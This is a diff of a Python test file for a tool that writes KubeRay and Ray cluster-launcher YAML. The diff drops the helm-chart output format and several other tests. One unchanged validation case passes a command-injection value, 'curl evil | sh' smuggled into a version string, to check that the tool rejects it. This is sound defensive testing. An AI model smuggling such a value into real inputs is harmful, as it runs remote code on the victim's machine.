@@ -10,10 +10,10 @@ from tune_policies import InvalidResourcesError
 from tune_policies.cluster.accelerators import FAMILIES
 from tune_policies.kuberay.design.catalog import NodeType, Toleration
 from tune_policies.kuberay.design.cluster_spec import DesignedGroup
-from tune_policies.kuberay.design.device_plugins import DEVICE_PLUGINS, devices_of, type_selector
+from tune_policies.kuberay.design.device_plugins import DEVICE_PLUGINS, type_selector
 from tune_policies.kuberay.writing import WriteOptions, write_cluster
 
-FORMATS = ("kuberay", "kuberay-helm", "cluster-yaml")
+FORMATS = ("kuberay", "cluster-yaml")
 
 
 def cpu_type(**fields):
@@ -170,13 +170,6 @@ spec:
 """
 
 
-@pytest.mark.parametrize("form", FORMATS)
-def test_the_same_plan_gives_the_same_text(form):
-    plan = a_design(gpu_type(), cpu_type())
-
-    assert write_cluster(plan, WriteOptions(format=form)) == write_cluster(plan, WriteOptions(format=form))
-
-
 def test_reasons_of_any_text_stay_comments():
     text = write_cluster(a_design(reasons=("first\nkind: Pod\x07", "- \u2028kind: Pod")))
 
@@ -246,16 +239,12 @@ def test_pods_without_nvidias_gpus_are_shown_none_of_them(node_types, variables)
         ("gpu-operator", "nvidia.com/gpu.present"),
     ],
 )
-@pytest.mark.parametrize("form", ["kuberay", "kuberay-helm"])
-def test_the_head_and_pods_without_devices_keep_off_nodes_with_gpus(form, platform, label):
+def test_the_head_and_pods_without_devices_keep_off_nodes_with_gpus(platform, label):
     plan = a_design(cpu_type(), gpu_type(), cpu_type(name="mine", node_selector={"pool": "a"}))
-    written = yaml.safe_load(write_cluster(plan, WriteOptions(format=form, platform=platform)))
+    written = spec(plan, platform=platform)
 
-    if form == "kuberay":
-        groups = [written["spec"]["headGroupSpec"], *written["spec"]["workerGroupSpecs"]]
-        found = [each["template"]["spec"].get("affinity") for each in groups]
-    else:
-        found = [each.get("affinity") for each in (written["head"], *written["additionalWorkerGroups"].values())]
+    groups = [written["headGroupSpec"], *written["workerGroupSpecs"]]
+    found = [each["template"]["spec"].get("affinity") for each in groups]
     terms = {"nodeSelectorTerms": [{"matchExpressions": [{"key": label, "operator": "DoesNotExist"}]}]}
     off = {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": terms}}
     assert found == [off, off, None, None]
@@ -266,22 +255,6 @@ def test_the_head_and_pods_without_devices_keep_off_nodes_with_gpus(form, platfo
 )
 def test_without_known_gpu_nodes_the_head_runs_anywhere(node_type, platform):
     assert "affinity" not in spec(a_design(node_type), platform=platform)["headGroupSpec"]["template"]["spec"]
-
-
-def test_pods_have_shared_memory_for_data_loaders_as_large_as_their_memory():
-    written = pod(gpu_type(memory=3 * 2**30))
-
-    assert written["containers"][0]["volumeMounts"] == [{"name": "shared-memory", "mountPath": "/dev/shm"}]
-    assert written["volumes"] == [{"name": "shared-memory", "emptyDir": {"medium": "Memory", "sizeLimit": "3Gi"}}]
-
-
-def test_no_autoscaler_of_nodes_moves_a_pod():
-    annotations = group(gpu_type())["template"]["metadata"]["annotations"]
-
-    assert annotations == {
-        "cluster-autoscaler.kubernetes.io/safe-to-evict": "false",
-        "karpenter.sh/do-not-disrupt": "true",
-    }
 
 
 @given(st.text() | st.text(alphabet="a \n\t\r#:-'\"\u2028\x85"))
@@ -298,16 +271,14 @@ def test_room_to_fill_in_stands_as_comments_that_are_yaml(form):
 
     named = {
         "kuberay": ("queue-name", "serviceAccountName", "priorityClassName", "secretRef", "claimName", "registry"),
-        "kuberay-helm": ("serviceAccountName", "priorityClassName", "secretRef", "claimName", "registry"),
         "cluster-yaml": ("requirements.txt", "file_mounts"),
     }
     assert all(name not in str(yaml.safe_load(text)) for name in named[form])
     assert all(name in str(yaml.safe_load(filled)) for name in named[form])
 
 
-@pytest.mark.parametrize("form", ["kuberay", "kuberay-helm"])
-def test_room_stands_in_the_head_and_in_every_group(form):
-    text = write_cluster(a_design(cpu_type(), gpu_type()), WriteOptions(format=form))
+def test_room_stands_in_the_head_and_in_every_group():
+    text = write_cluster(a_design(cpu_type(), gpu_type()))
 
     assert text.count("# serviceAccountName") == 3
 
@@ -460,15 +431,6 @@ def test_what_the_user_selects_and_tolerates_stands_beside_what_is_usual():
     assert written["tolerations"][1:] == [{"key": "spot", "operator": "Equal", "value": "yes"}]
 
 
-def test_all_pods_have_the_users_image():
-    images = {
-        one["template"]["spec"]["containers"][0]["image"]
-        for one in spec(a_design(), image="me/ray")["workerGroupSpecs"]
-    }
-
-    assert images == {"me/ray"}
-
-
 @pytest.mark.parametrize("memory", [2**30, 3 * 2**20, 5 * 2**20 + 2**10, 2**20 + 1])
 def test_memory_is_written_to_the_byte(memory):
     written = pod(gpu_type(memory=memory))["containers"][0]["resources"]["limits"]["memory"]
@@ -511,7 +473,6 @@ NO_KEY = cpu_type(custom={"MBLT": 1})
             "one host with 2 chips; name the topology",
         ),
         (a_design(cpu_type(custom={"vgpu": 2})), {}, "would take the resource 'vgpu' for Ray's own"),
-        (a_design(trials=TRIALS.on_nodes({"zone": "eu"})), {"format": "kuberay-helm"}, "chart has no place for Ray's"),
         (a_design(TPU_V7), {"ray_version": "2.50.0"}, "fails at a group of TPU-V7X, as 'cpu' is: take a newer Ray"),
         (a_design(trials=TRIALS.on_nodes({"zone": "eu"})), {"ray_version": "2.50.0"}, "take Ray 2.51 or newer"),
     ],
@@ -523,7 +484,7 @@ def test_what_could_not_run_is_refused(plan, options, says):
 
 @pytest.mark.parametrize(
     ("form", "says"),
-    [("kuberay", "there cannot be 3"), ("kuberay-helm", "there cannot be 3"), ("cluster-yaml", "launcher does not do")],
+    [("kuberay", "there cannot be 3"), ("cluster-yaml", "launcher does not do")],
 )
 def test_nodes_that_come_several_at_once_come_in_multiples_and_only_on_kubernetes(form, says):
     plan = a_design(groups=(DesignedGroup(node_type=gpu_type(), max_nodes=3, num_hosts=2),))
@@ -542,7 +503,6 @@ def test_nodes_that_come_several_at_once_come_in_multiples_and_only_on_kubernete
         ({"ray_version": '2.60.0" ; curl evil | sh ; "'}, "in full"),
         ({"ray_version": "\uff12.60.0"}, "in full"),
         ({"format": "cluster-yaml", "job": "python x.py"}, "a job is written as format 'kuberay' only"),
-        ({"format": "kuberay-helm", "namespace": "ml"}, r"helm install --namespace"),
         ({"format": "cluster-yaml", "namespace": "ml"}, "a namespace is written as format 'kuberay' only"),
         ({"namespace": "Ml\n"}, "namespace 'Ml.n' must have small letters"),
         ({"job": "python x.py"}, "name an image that has both, or a runtime environment"),
@@ -563,30 +523,12 @@ def test_wrong_options_are_named(fields, says):
         WriteOptions(**fields)
 
 
-@pytest.mark.parametrize(
-    ("image", "repository", "tag"),
-    [
-        ("me/ray:1", "me/ray", "1"),
-        ("registry:5000/ray", "registry:5000/ray", "latest"),
-        ("me/ray@sha256:ab", "me/ray@sha256", "ab"),
-    ],
-)
-def test_the_chart_has_images_in_two_parts(image, repository, tag):
-    values = yaml.safe_load(write_cluster(a_design(), WriteOptions(format="kuberay-helm", image=image)))
-
-    assert (values["image"]["repository"], values["image"]["tag"]) == (repository, tag)
-
-
 def test_the_launcher_installs_the_same_ray_or_runs_the_image():
     def config(**options):
         return yaml.safe_load(write_cluster(a_design(), WriteOptions(format="cluster-yaml", **options)))
 
     assert config(ray_version="2.55.0")["setup_commands"] == ["pip install 'ray[default,tune,train]==2.55.0'"]
     assert config(image="me/ray:1")["docker"] == {"image": "me/ray:1", "container_name": "ray_container"}
-
-
-def test_a_node_without_devices_needs_no_plugin():
-    assert devices_of(cpu_type()) is None
 
 
 @pytest.mark.parametrize(
